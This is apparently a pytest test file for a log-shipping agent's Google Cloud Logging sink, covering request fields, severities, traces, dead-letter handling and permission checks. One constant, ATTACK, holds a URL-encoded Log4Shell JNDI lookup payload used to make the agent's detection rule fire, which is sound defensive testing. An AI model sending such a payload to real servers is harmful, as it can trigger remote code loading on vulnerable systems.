"""Cloud Logging: the notable events arrive as entries with Google's own fields; refused ones alone go to the dead letter."""
import json
import re

import pytest
import conftest
from conftest import wait_for
from fake_google import key_file
from test_google import sink_status, use

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"


def access_line(*a, **k):
    """Of a browser: of what looks like a crawler there would be a detection."""
    return conftest.access_line(*a, agent=BROWSER, **k)


ATTACK = "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"


@pytest.fixture
def logging(agent, google, monkeypatch):
    """An agent with a sink `far`, of a host that is an EC2 instance."""
    monkeypatch.setenv("AWS_EC2_METADATA_SERVICE_ENDPOINT", google.url)
    use(agent, google.url, "cloud_logging")
    return google


def entries(google, log="sekisho-events"):
    with google.lock:
        return list(google.entries.get(log, []))


def write(agent, *lines):
    with open(agent.logs / "a.log", "a") as f:
        f.writelines(lines)


def settled(agent):
    return agent.run("audit").returncode == 0 and all(s["bulk_waiting"] + s["control_waiting"] == 0 for s in agent.status()["sinks"])


def test_what_is_notable_arrives_and_the_rest_is_counted_as_dropped(agent, logging):
    write(agent, *(access_line(i, f"/ok{i}") for i in range(500)))
    write(agent, access_line(77, "/broken?x=1", status=503), access_line(1, "/gone", status=404), access_line(1, ATTACK, addr="198.51.100.9"))
    agent.start()
    wait_for(lambda: len(entries(logging)) == 2 and entries(logging, "sekisho-alerts"), "two events and an alert")
    wait_for(lambda: settled(agent), "all is settled")
    broken = next(e for e in entries(logging) if "/broken" in json.dumps(e))
    assert broken["httpRequest"] == {
        "requestMethod": "GET",
        "requestUrl": "/broken?x=1",
        "status": 503,
        "responseSize": "77",
        "userAgent": BROWSER,
        "remoteIp": "203.0.113.7",
        "protocol": "HTTP/1.1",
    }
    assert broken["severity"] == "ERROR" and broken["labels"]["service"] == "test"
    assert broken["insertId"] == agent.query("SELECT id FROM events WHERE url_path = '/broken'")[0][0]
    assert "url.path" not in broken["jsonPayload"].get("attributes", {})  # it is in httpRequest
    assert broken["resource"] == {"type": "aws_ec2_instance", "labels": {"instance_id": "i-0abc", "region": "aws:ap-northeast-1a", "aws_account": "123456789012"}}
    attack = next(e for e in entries(logging) if "jndi" in json.dumps(e))
    assert attack["severity"] == "CRITICAL" and attack["jsonPayload"]["detections"][0]["rule"] == "web.log4shell.jndi"
    alert = entries(logging, "sekisho-alerts")[0]
    assert alert["jsonPayload"]["alert"]["rule"] == "web.log4shell.jndi" and "198.51.100.9" in alert["jsonPayload"]["message"]
    dropped = re.search(r"^far +bulk .*dropped (\d+)", agent.run("audit").stdout, re.M)
    assert dropped.group(1) == "501", agent.run("audit").stdout
    agent.stop()


@pytest.mark.parametrize("wanted, n", [("all", 4), ("alerts", 0)])
def test_how_much_goes_there_is_the_configs_choice(agent, logging, wanted, n):
    agent.sinks["far"] += f", entries: {wanted}, log: web/front"
    write(agent, *(access_line(i, f"/ok{i}") for i in range(2)), access_line(1, "/", status=500), access_line(1, ATTACK))
    agent.start()
    wait_for(lambda: entries(logging, "web/front-alerts"), "the alert")
    wait_for(lambda: settled(agent), "all is settled")
    assert len(entries(logging, "web/front-events")) == n
    agent.stop()


def test_traces_severities_and_times_of_applications(agent, logging):
    agent.parser = "json"
    trace, span = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
    lines = [
        {"msg": "a", "level": "error", "trace_id": trace, "span_id": span},
        {"msg": "b", "level": "FATAL", "traceparent": f"00-{trace}-{span}-01"},
        {"msg": "c", "level": "err", "trace_id": "none"},
        {"msg": "d", "level": "info", "trace_id": trace},
        {"msg": "e", "status": 502, "method": "POST", "path": "/p", "request_time": "0.1234567891", "host": "x.example"},
    ]
    write(agent, *(json.dumps(line) + "\n" for line in lines))
    agent.start()
    wait_for(lambda: len(entries(logging)) == 4, "four entries")
    wait_for(lambda: settled(agent), "all is settled")
    by = {re.search(r'"(?:message|msg)": "(.)"', json.dumps(e)).group(1): e for e in entries(logging)}
    assert by["a"]["trace"] == f"projects/p/traces/{trace}" and by["a"]["spanId"] == span and by["a"]["severity"] == "ERROR"
    assert by["b"]["trace"] == by["a"]["trace"] and by["b"]["spanId"] == span and by["b"]["severity"] == "CRITICAL"
    assert "trace" not in by["c"]
    assert by["e"]["httpRequest"]["latency"] == "0.123456789s" and by["e"]["httpRequest"]["requestUrl"] == "http://x.example/p"
    agent.stop()


def test_refused_entries_alone_go_to_the_dead_letter_and_none_is_written_twice(agent, logging):
    agent.sinks["far"] += ", entries: all"
    logging.refuse = {"/bad": (3, "Log entry with size 300K exceeds maximum"), "/later": (14, "try again")}
    logging.faults = [("entries:write", (429, "RESOURCE_EXHAUSTED")), ("entries:write", (503, "UNAVAILABLE"))]
    write(agent, *(access_line(i, f"/{'bad' if i % 100 == 7 else 'later' if i == 50 else 'ok'}{i}") for i in range(1000)))
    agent.start()
    wait_for(lambda: len(entries(logging)) == 989, "all but the refused and the one that comes later")
    wait_for(lambda: "try again" in sink_status(agent)["last_error"], "it is said what is tried again")
    del logging.refuse["/later"]
    wait_for(lambda: settled(agent), "all is settled")
    ids = [e["insertId"] for e in entries(logging)]
    assert len(ids) == len(set(ids)) == 990
    dead = [json.loads(line) for line in (agent.root / "dead" / "far.ndjson").read_text().splitlines()]
    assert len(dead) == 10 and sink_status(agent)["rejected"] == 10
    assert {d["reason"] for d in dead} == {"INVALID_ARGUMENT: Log entry with size 300K exceeds maximum"}
    assert {d["attributes"]["url.path"] for d in dead} == {f"/bad{i}" for i in range(7, 1000, 100)}
    agent.stop()


def test_without_permission_all_is_held(agent, logging):
    logging.refuse = {"": (7, "Permission 'logging.logEntries.create' denied")}
    write(agent, access_line(1, "/a", status=500))
    agent.start()
    wait_for(lambda: sink_status(agent)["held"], "it is held")
    assert "logging.logEntries.create" in sink_status(agent)["last_error"]
    assert sink_status(agent)["rejected"] == 0
    agent.stop()


def test_check_online_proves_who_we_are_and_asks_for_each_log(agent, logging):
    logging.need_token = True
    logging.no_instance = True
    agent.sinks["far"] += f", credentials: {key_file(logging)}"
    agent.write_config()
    check = agent.run("check", "--online")
    assert check.returncode == 0, check
    assert "far: ok:   credentials: a token was granted" in check.stdout
    assert 'far: ok:   resource {"type":"generic_node"' in check.stdout
    assert "far: ok:   log projects/p/logs/sekisho-alerts: may write" in check.stdout
    assert entries(logging) == [] and logging.entries == {}
    logging.always["entries:write"] = (403, "PERMISSION_DENIED", "denied")
    check = agent.run("check", "--online")
    assert check.returncode == 69 and "grant roles/logging.logWriter" in check.stdout, check.stdout
